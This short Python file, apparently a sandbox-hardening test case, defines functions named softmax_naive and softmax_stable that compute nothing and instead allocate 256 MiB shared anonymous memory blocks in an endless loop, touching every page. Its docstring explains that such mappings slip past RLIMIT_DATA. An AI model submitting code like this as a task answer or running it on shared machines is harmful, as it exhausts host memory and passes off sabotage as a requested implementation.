"""Attack: shared anonymous memory (Python's mmap.mmap(-1, n) is MAP_SHARED | MAP_ANONYMOUS), touched page by
page. RLIMIT_DATA does not count such mappings, so where a GPU is exposed (RLIMIT_DATA in place of RLIMIT_AS)
only the memory cgroup holds it."""
import mmap

HOARD = []


def softmax_naive(x, dim=-1):
    while True:
        block = mmap.mmap(-1, 256 << 20)  # 256 MiB
        for offset in range(0, len(block), 4096):
            block[offset] = 1  # touch every page: now it is resident
        HOARD.append(block)


def softmax_stable(x, dim=-1):
    return softmax_naive(x, dim)
